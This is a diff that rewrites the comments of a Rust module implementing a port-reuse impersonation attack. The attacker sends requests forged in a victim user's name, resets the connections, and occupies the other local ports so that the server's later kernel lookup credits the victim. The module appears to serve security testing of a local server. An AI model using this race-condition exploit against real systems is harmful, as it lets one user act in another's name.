@@ -1,6 +1,7 @@
-//! Impersonation by a port that is used again. The attacker says who the victim is, sends its requests behind that, and resets the
-//! connection. A server that asks the kernel later is told whose the port is by then. All other ports are taken, so that it is soon
-//! the victim's, who connects all the time.
+//! Impersonation by a reused port. The attacker claims to be the victim, sends its requests with
+//! the claim, and resets the connection. If the server asks the kernel for the port's owner later,
+//! the kernel may name another user. The attacker keeps all other ports in use, so that the victim,
+//! which connects all the time, soon gets that port.
 use super::{own_user, tool};
 use crate::raw_client::encoded;
 use anyhow::{Context, Result, bail};
@@ -16,19 +17,20 @@ use std::{
     time::{Duration, Instant},
 };
 
-/// The code of the event that is raised in another user's name.
+/// Code of the event that is raised in another user's name.
 pub const FORGED: Status = Status(-4242);
-/// The ports that are left to the victim. The attacker connects from all of them but one at once: the checks of those that the victim did
-/// not take delay the others.
+/// Number of ports that are left to the victim. The attacker connects from all of them but one at
+/// once. The checks of the ports that the victim did not get delay the other checks.
 const FREE_PORTS: u16 = 6;
-/// The times between the bytes and the reset, in microseconds: the server is to have read the ones, and not to have asked the kernel.
+/// Times between the bytes and the reset, in microseconds. The server should have read the bytes,
+/// and not have asked the kernel yet.
 const DELAYS: [u64; 6] = [0, 20, 50, 100, 200, 500];
-/// The time after which the attacker gives up, however few connections it made.
+/// Time after which the attacker ends, even with fewer connections.
 const LONGEST: Duration = Duration::from_secs(120);
-/// The ports that the kernel gives to those who want any.
+/// File with the range of ports that the kernel assigns to sockets without a chosen port.
 const PORTS: &str = "/proc/sys/net/ipv4/ip_local_port_range";
 
-/// The bytes of a tool that raises an event in its first frame.
+/// Returns the bytes of a tool that raises an event in its first frame.
 fn raising(user: ClaimedUser, name: &str) -> Result<Vec<u8>> {
     let hello = tool(user, name);
     let notify = Request::Notify {
@@ -49,13 +51,13 @@ fn raising(user: ClaimedUser, name: &str) -> Result<Vec<u8>> {
     .concat())
 }
 
-/// Raises the event as the user that this process runs as, by this name, and waits for the answer.
+/// Raises the event as the user of this process, under this name, and waits for the answer.
 pub fn raise(server: SocketAddr, name: &str) -> Result<()> {
     let mut stream = TcpStream::connect(server)?;
     stream.write_all(&raising(own_user(), name)?)?;
     stream.set_read_timeout(Some(Duration::from_secs(30)))?;
     let mut answer = Vec::new();
-    // The welcome, and the answer to the first request.
+    // These are the welcome and the answer to the first request.
     while answer.len() < 40 {
         let mut bytes = [0; 64];
         match stream.read(&mut bytes)? {
@@ -66,7 +68,7 @@ pub fn raise(server: SocketAddr, name: &str) -> Result<()> {
     Ok(())
 }
 
-/// Tries so many times to raise the event as the victim; prints how many connections it made.
+/// Tries this number of times to raise the event as the victim. Prints the number of connections.
 pub fn attack(server: SocketAddr, victim: u32, tries: u32) -> Result<()> {
     let forged = raising(
         ClaimedUser {
@@ -86,7 +88,7 @@ pub fn attack(server: SocketAddr, victim: u32, tries: u32) -> Result<()> {
             break;
         }
         let ports = free.clone().filter(|port| *port != left);
-        // While the victim has a port, others are taken.
+        // While the victim has one port, the attacker uses the others.
         let claims: Vec<TcpStream> = ports
             .filter_map(|port| claim(port, server, &forged).ok())
             .collect();
@@ -110,20 +112,20 @@ fn port_range() -> Result<(u16, u16)> {
     }
 }
 
-/// A socket that keeps a port from others.
+/// Returns a socket that occupies a port.
 fn bound(port: u16) -> Result<OwnedFd> {
     let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
     bind(&socket, &SocketAddr::from((Ipv4Addr::LOCALHOST, port)))?;
     Ok(socket)
 }
 
-/// A connection from a port, with these bytes on it. It is reset when it is dropped.
+/// Connects from a port and sends these bytes. The connection is reset when it is dropped.
 fn claim(port: u16, server: SocketAddr, bytes: &[u8]) -> Result<TcpStream> {
     let socket = bound(port)?;
     connect(&socket, &server)?;
     let mut stream = TcpStream::from(socket);
     sockopt::set_socket_linger(&stream, Some(Duration::ZERO))?;
-    // A server may have closed it by now.
+    // The server may have closed the connection by now.
     let _ = stream.write_all(bytes);
     Ok(stream)
 }
